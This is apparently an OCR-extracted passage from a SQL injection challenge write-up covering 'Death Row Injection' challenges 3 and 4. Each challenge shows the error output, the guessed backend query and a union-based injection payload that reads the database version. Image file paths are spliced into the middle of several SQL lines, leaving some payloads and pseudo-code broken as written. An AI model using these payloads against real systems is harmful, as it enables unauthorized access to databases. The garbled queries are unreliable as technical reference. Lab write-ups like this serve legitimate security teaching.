Server Response – Error On Page:SQL Syntax Error around '))

Possible Pseudo Code:

SELECT * FROM table WHERE (ID=(1))

Why It Works – Server Request:

SELECT * FROM table WHERE (ID=(-1)) union select 1,version()--+-))


Death Row Injection – Challenge 3.

Vulnerable Parameter – Server Request:

Server Response – Error On Page:
SQL Syntax Error around "1"" limit 1

Possible Pseudo Code:

SELECT * FROM table WHERE ID="1" limit 1

Why It Works – Server Request:

SELECT * FROM table WHERE ID="-1" union select1,2,3,version(),5--+-" limit 1


Death Row Injection – Challenge 4.

Vulnerable Parameter – Server Request:

Server Response – Error On Page:
SQL Syntax Error around "1")

Possible Pseudo Code:

SELECT * FROM table WHEREID=("1")

Why It Works – Server Request:

SELECT * FROM table WHERE ID=("-1") union select1,2,3,version(),5,6,7--+-")